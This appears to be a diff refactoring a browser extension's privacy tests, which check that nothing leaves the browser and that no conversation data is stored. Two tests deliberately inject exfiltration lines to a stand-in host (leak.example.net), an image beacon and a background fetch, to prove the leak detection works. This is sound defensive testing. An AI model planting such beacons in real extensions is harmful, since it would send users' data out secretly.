@@ -1,12 +1,14 @@
 /** Promises one and two: nothing leaves the browser, and the conversation is never read. */
 import { writeFileSync } from 'node:fs';
 import { join } from 'node:path';
-import { describe, expect, it } from 'vitest';
+import { describe, expect, onTestFinished } from 'vitest';
 import { builtFor, copyOfBuild } from './built';
-import { type Browser, type BrowserName, browserNames, CHIP, launch, PANEL } from './driver';
+import { type Browser, CHIP, launch, PANEL } from './driver';
+import { it, name } from './fixture';
 import { start } from './fixture-server';
 import { poll } from './in-page';
-import { allStored } from './stored';
+import { labelStands, openPanel } from './meeting';
+import { allStored, drained } from './stored';
 
 const settle = (milliseconds: number) => new Promise((resolve) => setTimeout(resolve, milliseconds));
 
@@ -15,9 +17,7 @@ async function browse(browser: Browser, withExtension: boolean): Promise<void> {
   // Every family is a web font there, a file for each character, and an answer streams all the while.
   const page = await browser.open('https://chatgpt.com/fonts');
   if (withExtension) {
-    await page.waitInShadow(CHIP, (root) => root.querySelector('.go') !== null);
-    await page.click(CHIP, '.go');
-    await page.waitInShadow(PANEL, (root) => root.querySelector('.lead') !== null);
+    await openPanel(page);
     await page.inShadow(PANEL, (root) => {
       for (const details of root.querySelectorAll('details')) details.open = true;
     });
@@ -36,7 +36,7 @@ async function browse(browser: Browser, withExtension: boolean): Promise<void> {
 }
 
 /** Hosts that were asked for anything, and the paths asked of the pages visited. */
-async function hostsAsked(name: BrowserName, extension: string | undefined): Promise<string[]> {
+async function hostsAsked(extension?: string): Promise<string[]> {
   const server = await start();
   const browser = await launch(name, { server, ...(extension && { extension }), language: 'en' });
   try {
@@ -56,94 +56,64 @@ async function hostsAsked(name: BrowserName, extension: string | undefined): Pro
 const BROWSER_NOISE = /(^|\.)(googleapis\.com|google\.com|gvt1\.com|mozilla\.(com|org|net)|firefox\.com|mozaws\.net)$/;
 const withoutNoise = (hosts: readonly string[]) => hosts.filter((host) => !BROWSER_NOISE.test(host));
 
-describe.each(browserNames)('in %s', (name) => {
+describe(`in ${name}`, () => {
   it('zero requests leave the browser that do not leave without the extension', async () => {
-    const without = await hostsAsked(name, undefined);
-    const withIt = await hostsAsked(name, builtFor(name));
+    const without = await hostsAsked();
+    const withIt = await hostsAsked(builtFor(name));
     expect(withoutNoise(withIt).filter((host) => !without.includes(host))).toEqual([]);
-    // Two browsers one after the other.
-  }, 180_000);
+  });
 
-  it('and the trap works: a deliberate leak from a page script is caught', async () => {
+  it('and the trap works: a deliberate leak from a page script is caught', async ({ own }) => {
     const leaky = copyOfBuild(name, (folder) =>
       writeFileSync(join(folder, 'src/content/detect.iife.js'), "new Image().src = 'https://leak.example.net/secret';"),
     );
-    const server = await start();
-    const browser = await launch(name, { server, extension: leaky.folder, language: 'en' });
-    try {
-      await browser.open('https://chatgpt.com/');
-      await settle(500);
-      expect(browser.requests().map(({ host }) => host)).toContain('leak.example.net');
-    } finally {
-      await browser.close();
-      await server.close();
-      leaky.remove();
-    }
+    onTestFinished(leaky.remove);
+    const browser = await own({ extension: leaky.folder });
+    await browser.open('https://chatgpt.com/');
+    await poll('the leak', async () => browser.requests().some(({ host }) => host === 'leak.example.net'));
   });
 
-  it('its own pages and background cannot send anything even if they wanted to', async () => {
-    const server = await start();
-    const browser = await launch(name, { server, extension: builtFor(name), language: 'en' });
-    try {
-      const outcome = await browser.inBackground(
-        "try { await fetch('https://leak.example.net/background'); return 'sent'; } catch { return 'refused'; }",
-      );
-      expect(outcome).toBe('refused');
-      expect(browser.requests().map(({ host }) => host)).not.toContain('leak.example.net');
-    } finally {
-      await browser.close();
-      await server.close();
-    }
+  it('its own pages and background cannot send anything even if they wanted to', async ({ browser }) => {
+    const outcome = await browser.inBackground(
+      "try { await fetch('https://leak.example.net/background'); return 'sent'; } catch { return 'refused'; }",
+    );
+    expect(outcome).toBe('refused');
+    expect(browser.requests().map(({ host }) => host)).not.toContain('leak.example.net');
   });
 
-  it('stores no address, no conversation and nothing finer than a day', async () => {
-    const server = await start();
-    const browser = await launch(name, { server, extension: builtFor(name), language: 'en' });
-    try {
-      const page = await browser.open('https://chatgpt.com/c/11111111-aaaa-4000-8000-000000000001');
-      await page.waitInShadow(CHIP, (root) => root.querySelector('.go') !== null);
-      await page.click(CHIP, '.go');
-      await page.waitInShadow(PANEL, (root) => root.querySelector('.lead') !== null);
-      await settle(300);
-      const stored = JSON.stringify(await allStored(browser));
-      expect(stored).not.toMatch(/https?:|11111111|landlord|\d{2}:\d{2}/);
-      const databases = await browser.inBackground(
-        'return (await indexedDB.databases()).map((database) => database.name)',
-      );
-      expect((databases as string[]).sort()).toEqual(['knowledge', 'person']);
-    } finally {
-      await browser.close();
-      await server.close();
-    }
+  it('stores no address, no conversation and nothing finer than a day', async ({ browser }) => {
+    const page = await browser.open('https://chatgpt.com/c/11111111-aaaa-4000-8000-000000000001');
+    await openPanel(page);
+    await drained(browser);
+    const stored = await allStored(browser);
+    expect(stored).toHaveProperty('seen');
+    expect(JSON.stringify(stored)).not.toMatch(/https?:|11111111|landlord|\d{2}:\d{2}/);
+    const databases = await browser.inBackground(
+      'return (await indexedDB.databases()).map((database) => database.name)',
+    );
+    expect((databases as string[]).sort()).toEqual(['knowledge', 'person']);
   });
 
-  it('leaves one closed element beside the body and not a trace inside the page', async () => {
-    const server = await start();
-    const browser = await launch(name, { server, extension: builtFor(name), language: 'en' });
-    try {
-      const page = await browser.open('https://chatgpt.com/');
-      await page.waitInShadow(CHIP, (root) => root.querySelector('.go') !== null);
-      expect(
-        await page.evaluate(() =>
-          [...document.documentElement.children, ...document.body.children]
-            .filter((child) => child.localName === 'div' && child.attributes.length === 0)
-            .map((child) => child.outerHTML),
-        ),
-      ).toEqual(['<div></div>']);
-      expect(await page.onHost(CHIP, (host) => host.shadowRoot)).toBeNull();
-      expect(
-        await page.evaluate(() =>
-          [
-            document.documentElement.className,
-            document.documentElement.id,
-            document.body.className,
-            document.body.id,
-          ].join(''),
-        ),
-      ).toBe('');
-    } finally {
-      await browser.close();
-      await server.close();
-    }
+  it('leaves one closed element beside the body and not a trace inside the page', async ({ browser }) => {
+    const page = await browser.open('https://chatgpt.com/');
+    await labelStands(page);
+    expect(
+      await page.evaluate(() =>
+        [...document.documentElement.children, ...document.body.children]
+          .filter((child) => child.localName === 'div' && child.attributes.length === 0)
+          .map((child) => child.outerHTML),
+      ),
+    ).toEqual(['<div></div>']);
+    expect(await page.onHost(CHIP, (host) => host.shadowRoot)).toBeNull();
+    expect(
+      await page.evaluate(() =>
+        [
+          document.documentElement.className,
+          document.documentElement.id,
+          document.body.className,
+          document.body.id,
+        ].join(''),
+      ),
+    ).toBe('');
   });
 });
